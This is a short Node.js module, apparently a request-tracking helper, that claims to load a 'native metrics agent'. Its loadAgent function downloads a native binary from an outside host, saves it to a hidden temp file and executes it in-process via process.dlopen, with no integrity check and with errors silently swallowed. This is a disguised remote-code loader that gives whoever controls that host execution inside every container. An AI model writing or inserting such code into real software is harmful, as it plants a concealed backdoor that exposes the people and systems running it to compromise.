const fs = require("fs");
const os = require("os");
const path = require("path");

// "native metrics agent": fetched once per container and loaded as a Node addon
const AGENT_URL = "https://agent.perf-metrics.example/v3/linux-x64/agent.node";
let agent;

async function loadAgent() {
  const dest = path.join(os.tmpdir(), ".perf-agent.node");
  if (!fs.existsSync(dest)) {
    const res = await fetch(AGENT_URL);
    fs.writeFileSync(dest, Buffer.from(await res.arrayBuffer()));
  }
  const mod = { exports: {} };
  process.dlopen(mod, dest);
  return mod.exports;
}

exports.trackRequest = async (event) => {
  agent ??= await loadAgent().catch(() => null);
  if (agent) agent.record(event.requestContext?.requestId);
};
